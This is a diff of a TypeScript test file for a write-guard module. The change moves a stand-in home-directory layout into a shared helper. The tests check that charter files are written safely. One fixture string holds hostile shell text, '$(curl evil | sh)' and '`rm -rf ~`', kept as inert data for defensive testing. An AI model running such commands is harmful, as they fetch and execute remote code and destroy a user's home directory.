@@ -11,9 +11,9 @@ import { GuardedFileMissingError, GuardedTargets, readGuarded, statGuarded, Unkn
 } from '../../../src/core/guardedFile';
 import { NotRegularFileError, SymlinkRefusedError, WriteOutsideError } from '../../../src/core/writeGuard';
 import { rngInt } from '../../support/rng';
+import { assertHomeUntouched, homeLayout } from '../../support/homeStandIn';
 import { tempDir } from '../../support/tempDir';
 
-const BASHRC = 'export PATH=$HOME/bin:$PATH\n# the stand-in for ~/.bashrc\n';
 const RULE = '\n## Always\n- Never run $(curl evil | sh); `rm -rf ~` > /dev/null\n';
 
 describe('core/guardedFile: the guarded scheme writes through the guard at the moment of the write', function () {
@@ -21,21 +21,12 @@ describe('core/guardedFile: the guarded scheme writes through the guard at the m
   const tmp = tempDir('leo-gfile-');
 
   function layout() {
-    const base = tmp();
-    const home = join(base, 'home');
-    const leo = join(base, 'proj', '.leopold');
-    mkdirSync(home, { recursive: true });
-    mkdirSync(leo, { recursive: true });
-    const bashrc = join(home, '.bashrc');
-    writeFileSync(bashrc, BASHRC);
-    const charter = join(leo, 'CHARTER.md');
+    const l = homeLayout(tmp());
+    const charter = join(l.leo, 'CHARTER.md');
     writeFileSync(charter, '# Charter\n');
-    return { base, home, leo, bashrc, charter, target: { file: charter, within: leo } };
+    return { ...l, charter, target: { file: charter, within: l.leo } };
   }
-  const homeUntouched = (l: ReturnType<typeof layout>, msg: string) => {
-    assert.equal(readFileSync(l.bashrc, 'utf8'), BASHRC, `${msg}: the stand-in is byte-identical`);
-    assert.deepEqual(readdirSync(l.home), ['.bashrc'], `${msg}: nothing new in home`);
-  };
+  const homeUntouched = assertHomeUntouched;
 
   it('a regular CHARTER.md is read exactly and replaced with the new bytes (the rule as data), its mode kept', async () => {
     const l = layout();
